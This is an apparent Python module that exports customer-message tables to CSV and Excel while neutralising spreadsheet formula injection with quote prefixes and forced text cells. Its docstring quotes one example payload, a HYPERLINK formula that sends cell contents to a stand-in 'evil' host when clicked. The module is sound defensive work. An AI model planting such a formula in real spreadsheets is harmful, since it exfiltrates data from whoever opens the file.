"""Store: tables exported for spreadsheets (CSV and Excel), safe against formula injection.

Excel, WPS and LibreOffice run a cell that starts with ``=``, ``+``, ``-`` or
``@`` (tab and carriage return too, which they skip) as a formula: a customer
message such as ``=HYPERLINK("http://evil/?"&A1,"怎么退款？")`` in an export
would send the sheet away when clicked. In CSV such text gets a leading ``'``,
which spreadsheets read as "this is text"; in Excel files every text is
written as a text cell, and one that looks like a formula (or an error such as
``#N/A``) also carries the quote-prefix style, so it stays text when someone
edits the cell. Characters XML cannot hold are dropped, and a cell longer than
Excel's 32,767 characters is cut (the CSV keeps it whole).

Times are written as local wall-clock time of the reader's zone, which the
column heading names (``时间（北京时间）``).
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Mapping, Sequence
from dataclasses import dataclass
from datetime import datetime
from typing import Any
from zoneinfo import ZoneInfo

from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ERROR_CODES, ILLEGAL_CHARACTERS_RE

from radar.i18n import Locale
from radar.localtime import local
from radar.store.listing import FIELDS, TIME_FIELDS

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
#: Longest text an Excel cell holds.
EXCEL_CELL_CHARS = 32_767
#: Characters a sheet name may not contain, and its longest length.
_SHEET_NAME_BAD = re.compile(r"[\[\]:*?/\\]")
_SHEET_NAME_CHARS = 31
XLSX_MIME = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
CSV_MIME = "text/csv; charset=utf-8"


@dataclass(frozen=True)
class Sheet:
    """One table: its name, its columns (field, heading) and its rows (mappings by field)."""

    name: str
    columns: Sequence[tuple[str, str]]
    rows: Iterable[Mapping[str, Any]]


def formula_safe(value: Any) -> Any:
    """``value``, with a leading ``'`` when it is text a spreadsheet would run."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def plain_value(value: Any, tz: ZoneInfo) -> Any:
    """A cell's value: local wall-clock time for datetimes, lists joined, None as empty."""
    if value is None:
        return ""
    if isinstance(value, datetime):
        return local(value, tz).replace(tzinfo=None)
    if isinstance(value, list | tuple | set):
        return "、".join(str(v) for v in value)
    if isinstance(value, dict):
        return "; ".join(f"{k}={v}" for k, v in value.items())
    return value


def csv_bytes(sheet: Sheet, tz: ZoneInfo) -> bytes:
    """``sheet`` as CSV for Excel and WPS (UTF-8 with a byte-order mark), formulas neutralised."""
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow([formula_safe(heading) for _, heading in sheet.columns])
    for row in sheet.rows:
        cells = []
        for name, _ in sheet.columns:
            value = plain_value(row.get(name), tz)
            if isinstance(value, datetime):
                value = value.strftime("%Y-%m-%d %H:%M:%S")
            cells.append(formula_safe(value))
        writer.writerow(cells)
    return out.getvalue().encode("utf-8-sig")


def sheet_title(name: str, taken: set[str]) -> str:
    """A sheet name Excel takes: no ``[]:*?/\\``, at most 31 characters, unique."""
    base = _SHEET_NAME_BAD.sub("_", name).strip("'")[:_SHEET_NAME_CHARS] or "Sheet"
    title, n = base, 1
    while title.casefold() in taken:
        n += 1
        title = f"{base[: _SHEET_NAME_CHARS - len(str(n)) - 1]}_{n}"
    taken.add(title.casefold())
    return title


def _cell(sheet: Any, value: Any) -> WriteOnlyCell:
    if isinstance(value, str):
        text = ILLEGAL_CHARACTERS_RE.sub("", value)[:EXCEL_CELL_CHARS]
        cell = WriteOnlyCell(sheet, value=text)
        cell.data_type = "s"  # never a formula or an error value, whatever it starts with
        if text.startswith(FORMULA_STARTS) or text in ERROR_CODES:
            cell.quotePrefix = True  # and it stays text when someone edits the cell
        return cell
    if isinstance(value, datetime):
        cell = WriteOnlyCell(sheet, value=value)
        cell.number_format = "yyyy-mm-dd hh:mm:ss"
        return cell
    if isinstance(value, bool | int | float):
        return WriteOnlyCell(sheet, value=value)
    return _cell(sheet, str(value))


def xlsx_bytes(sheets: Sequence[Sheet], tz: ZoneInfo) -> bytes:
    """``sheets`` as one Excel workbook (written row by row: large exports stay small in memory)."""
    book = Workbook(write_only=True)
    taken: set[str] = set()
    for sheet in sheets:
        out = book.create_sheet(sheet_title(sheet.name, taken))
        out.append([_cell(out, heading) for _, heading in sheet.columns])
        for row in sheet.rows:
            out.append([_cell(out, plain_value(row.get(name), tz)) for name, _ in sheet.columns])
    if not sheets:
        book.create_sheet("Sheet")
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def message_sheet(
    rows: Iterable[Mapping[str, Any]], locale: Locale, fields: Sequence[str] = FIELDS
) -> Sheet:
    """Listed messages as a sheet for people: headings, channels, stages and yes/no in
    ``locale``'s language, times in its zone (named in the headings)."""
    columns = [
        (
            name,
            locale.heading(f"export.field.{name}")
            if name in TIME_FIELDS
            else locale.t(f"export.field.{name}"),
        )
        for name in fields
    ]
    return Sheet(locale.t("export.sheet.messages"), columns, (_shown(r, locale) for r in rows))


def _shown(row: Mapping[str, Any], locale: Locale) -> dict[str, Any]:
    out = dict(row)
    if out.get("channel"):
        out["channel"] = locale.label("channel", out["channel"])
    if out.get("stage"):
        out["stage"] = locale.label("stage", out["stage"])
    if out.get("sentiment_label"):
        out["sentiment_label"] = locale.t(f"export.sentiment.{out['sentiment_label']}")
    for name in ("is_complaint", "is_staff_reply"):
        if name in out and out[name] is not None:
            out[name] = locale.t("export.flag_yes" if out[name] else "export.flag_no")
    return out


__all__ = [
    "CSV_MIME",
    "FORMULA_STARTS",
    "XLSX_MIME",
    "Sheet",
    "csv_bytes",
    "formula_safe",
    "message_sheet",
    "plain_value",
    "sheet_title",
    "xlsx_bytes",
]
